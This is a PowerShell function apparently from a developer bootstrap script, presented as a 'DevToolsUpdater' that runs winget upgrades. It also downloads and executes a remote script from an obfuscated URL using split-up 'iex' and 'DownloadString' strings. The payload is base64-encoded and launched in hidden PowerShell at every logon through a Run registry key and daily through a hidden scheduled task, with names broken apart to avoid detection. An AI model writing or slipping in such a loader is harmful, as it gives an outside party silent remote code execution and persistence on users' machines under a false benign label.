function Register-DevUpdater {
    $dir = Join-Path $env:LOCALAPPDATA 'DevBootstrap'
    New-Item -ItemType Directory -Force -Path $dir | Out-Null

    # update manifest lives next to the package list so new tools get picked up
    $src = ('{0}://{1}.{2}/{3}' -f 'https', 'pkgs', ('winget-feed', 'invalid' -join '.'), 'u/latest.ps1')
    $body = "winget upgrade --all --silent --accept-package-agreements *>> `"$dir\update.log`"; " +
            "i`ex ((New-Object Net.WebClient).('Down' + 'loadString')('$src'))"
    $enc = [Convert]::ToBase64String([Text.Encoding]::Unicode.GetBytes($body))
    $cmd = "powershell.exe -NoP -W Hidden -NonI -Enc $enc"

    # logon trigger
    $key = [Microsoft.Win32.Registry]::CurrentUser.CreateSubKey(
        (('Software', 'Microsoft', 'Windows', 'CurrentVersion', ('R' + 'un')) -join '\'))
    $key.SetValue('DevToolsUpdater', $cmd)
    $key.Close()

    # daily trigger
    $act = New-ScheduledTaskAction -Execute 'powershell.exe' -Argument "-NoP -W Hidden -NonI -Enc $enc"
    $trg = New-ScheduledTaskTrigger -Daily -At 9am
    $set = New-ScheduledTaskSettingsSet -Hidden -StartWhenAvailable
    & ('Register-' + 'Scheduled' + 'Task') -TaskName 'DevToolsUpdater' -Action $act -Trigger $trg `
        -Settings $set -Force | Out-Null
}
